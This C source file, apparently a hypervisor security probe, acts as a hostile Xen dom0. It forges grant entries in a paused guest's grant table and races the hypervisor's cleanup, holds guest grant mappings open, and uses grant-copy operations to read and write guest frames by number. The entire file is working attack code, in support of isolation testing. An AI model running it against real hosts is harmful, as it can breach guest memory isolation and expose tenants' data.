/* SPDX-License-Identifier: GPL-2.0-only */
/*
 * Grants as a hostile dom0 uses them.
 *
 * rawgrant hold DOMID REF SECONDS   maps a grant of the guest's and keeps it:
 *                                   "holding" or the error
 * rawgrant race DOMID   of a domain that is still paused: makes grants in its
 *     name, unpauses it, and on another vCPU makes them again as soon as the
 *     hypervisor has dropped them, then unmaps the table before it is looked
 *     for.  One line: "unpaused" or "refused", and "N grants survived".
 * rawgrant frames DOMID N           copies from and to the first N frames, as
 *     the guest names them, after an operation on the same guest that fails:
 *     "N read, N writable"
 */
#include <errno.h>
#include <pthread.h>
#include <sched.h>
#include <stdatomic.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <time.h>
#include <unistd.h>
#include <xencall.h>
#include <xenctrl.h>
#include <xenforeignmemory.h>
#include <xengnttab.h>
#include <xen/grant_table.h>

#define FIRST 8                 /* references below are reserved */
#define LAST  100

static xenforeignmemory_handle *fmem;
static xenforeignmemory_resource_handle *table;
static volatile grant_entry_v1_t *entry;
static uint16_t flags = GTF_permit_access | GTF_readonly;
static uint32_t frame;

static void pin(int cpu)
{
    cpu_set_t set;

    CPU_ZERO(&set);
    CPU_SET(cpu, &set);
    if ( sched_setaffinity(0, sizeof(set), &set) )
        perror("rawgrant: vCPU");
}

static int seconds(void)
{
    struct timespec t;

    clock_gettime(CLOCK_MONOTONIC, &t);

    return (int)t.tv_sec;
}

static void forge(void)
{
    int i;

    for ( i = FIRST; i < LAST; i++ )
    {
        entry[i].domid = 0;
        entry[i].frame = frame;
        atomic_thread_fence(memory_order_seq_cst);
        entry[i].flags = flags;
    }
}

static void *forger(void *arg)
{
    int end = seconds() + 20;

    pin(1);
    atomic_store((atomic_bool *)arg, true);
    while ( entry[LAST - 1].flags && seconds() < end )
        ;
    forge();
    xenforeignmemory_unmap_resource(fmem, table);

    return NULL;
}

static int survivors(uint16_t domid)
{
    xengnttab_handle *g = xengnttab_open(NULL, 0);
    int i, n = 0;

    for ( i = FIRST; g && i < LAST; i++ )
    {
        void *p = xengnttab_map_grant_ref(g, domid, (uint32_t)i, PROT_READ);

        if ( !p )
            continue;
        n++;
        xengnttab_unmap(g, p, 1);
    }

    return n;
}

static int race(uint16_t domid)
{
    xc_interface *xc = xc_interface_open(NULL, NULL, 0);
    atomic_bool ready = false;
    void *p = NULL;
    pthread_t t;
    int rc;

    fmem = xenforeignmemory_open(NULL, 0);
    if ( !xc || !fmem )
        return 2;
    table = xenforeignmemory_map_resource(
        fmem, domid, XENMEM_resource_grant_table,
        XENMEM_resource_grant_table_id_shared, 0, 1, &p,
        PROT_READ | PROT_WRITE, 0);
    if ( !table )
    {
        perror("rawgrant: table");
        return 2;
    }
    entry = p;
    frame = entry[0].frame;     /* the console's: dom0 may have it */
    forge();
    pin(0);
    if ( pthread_create(&t, NULL, forger, &ready) )
        return 2;
    while ( !atomic_load(&ready) )
        ;
    rc = xc_domain_unpause(xc, domid);
    pthread_join(t, NULL);
    printf("%s, %d grants survived\n", rc ? "refused" : "unpaused",
           rc ? 0 : survivors(domid));

    return 0;
}

static int hold(uint16_t domid, uint32_t ref, unsigned int time)
{
    xengnttab_handle *g = xengnttab_open(NULL, 0);
    void *p = g ? xengnttab_map_grant_ref(g, domid, ref, PROT_READ) : NULL;

    if ( !p )
    {
        printf("%s\n", strerror(errno));
        return 1;
    }
    puts("holding");
    fflush(stdout);
    sleep(time);

    return 0;
}

#define PAIRS 100

/* Whoever names a frame must be its owner: is that asked of each operation? */
static long copied(xencall_handle *call, uint16_t domid, unsigned long frames,
                   uint32_t mine, bool write)
{
    struct gnttab_copy *op = xencall_alloc_buffer(call,
                                                  sizeof(*op) * PAIRS * 2);
    unsigned long first, i;
    long n = 0;

    for ( first = 0; op && first < frames; first += PAIRS )
    {
        memset(op, 0, sizeof(*op) * PAIRS * 2);
        for ( i = 0; i < PAIRS * 2; i++ )
        {
            struct gnttab_copy *o = &op[i];
            bool by_frame = i % 2;

            /* Of no length, a page is made writable, and left as it is. */
            o->source.domid = write ? DOMID_SELF : domid;
            o->dest.domid = write ? domid : DOMID_SELF;
            o->source.u.ref = o->dest.u.ref = mine;
            o->flags = GNTCOPY_source_gref | GNTCOPY_dest_gref;
            o->len = write ? 0 : 8;
            o->status = 1;
            if ( by_frame )
                o->flags ^= write ? GNTCOPY_dest_gref : GNTCOPY_source_gref;
            if ( write )
                o->dest.u.gmfn = by_frame ? first + i / 2 : UINT32_MAX;
            else
                o->source.u.gmfn = by_frame ? first + i / 2 : UINT32_MAX;
        }
        if ( xencall3(call, __HYPERVISOR_grant_table_op, GNTTABOP_copy,
                      (uintptr_t)op, PAIRS * 2) )
            return -1;
        for ( i = 1; i < PAIRS * 2; i += 2 )
            n += op[i].status == GNTST_okay;
    }

    return op ? n : -1;
}

static int frames(uint16_t domid, unsigned long n)
{
    xengntshr_handle *share = xengntshr_open(NULL, 0);
    xencall_handle *call = xencall_open(NULL, 0);
    uint32_t mine = 0;
    long in, out;

    if ( !share || !call || !xengntshr_share_pages(share, 0, 1, &mine, 1) )
    {
        perror("rawgrant: a page of dom0's");
        return 2;
    }
    /* It works where it may: on dom0's own, in the machine's first 2 GiB. */
    if ( copied(call, DOMID_SELF, 0x80000, mine, false) <= 0 )
    {
        puts("dom0 cannot copy its own frames");
        return 2;
    }
    in = copied(call, domid, n, mine, false);
    out = copied(call, domid, n, mine, true);
    printf("%ld read, %ld writable\n", in, out);

    return in < 0 || out < 0 ? 2 : 0;
}

int main(int argc, char **argv)
{
    if ( argc == 4 && !strcmp(argv[1], "frames") )
        return frames((uint16_t)atoi(argv[2]), strtoul(argv[3], NULL, 0));
    if ( argc == 3 && !strcmp(argv[1], "race") )
        return race((uint16_t)atoi(argv[2]));
    if ( argc == 5 && !strcmp(argv[1], "hold") )
        return hold((uint16_t)atoi(argv[2]), (uint32_t)atoi(argv[3]),
                    (unsigned int)atoi(argv[4]));

    return 2;
}
